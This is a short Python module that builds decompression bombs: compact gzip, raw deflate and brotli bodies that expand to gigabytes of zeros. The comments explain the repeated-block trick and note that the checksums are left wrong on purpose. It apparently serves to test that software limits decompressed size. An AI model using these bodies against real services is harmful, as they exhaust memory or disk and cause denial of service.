"""Small bodies that unpack to huge ones."""

from __future__ import annotations

import gzip
import zlib
from functools import cache
from typing import Final

MIB: Final = 1 << 20
BLOCK_MIB: Final = 64
"""What one repeatable block unpacks to."""


@cache
def bomb(name: str, mib: int = 2048) -> bytes:
    """Return a small body that unpacks to so many MiB of zeros (a multiple of 64 is exact)."""
    zeros, blocks = bytes(BLOCK_MIB * MIB), -(-mib // BLOCK_MIB)
    if name == "brotli":
        import brotli

        packer = brotli.Compressor(quality=5)
        first = packer.process(zeros) + packer.flush()
        # From the second block on all are alike: each only says "copy what was before".
        again = packer.process(zeros) + packer.flush()
        return bytes(first + again * (blocks - 1) + packer.finish())
    deflate = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    block = deflate.compress(zeros) + deflate.flush(zlib.Z_FULL_FLUSH)
    # A final empty block ends it. Its check sums are wrong: who gets so far has lost already.
    body = block * blocks + b"\x03\x00" + bytes(8)
    header = gzip.compress(b"")[:10] if name == "gzip" else b"\x78\xda"
    return header + body
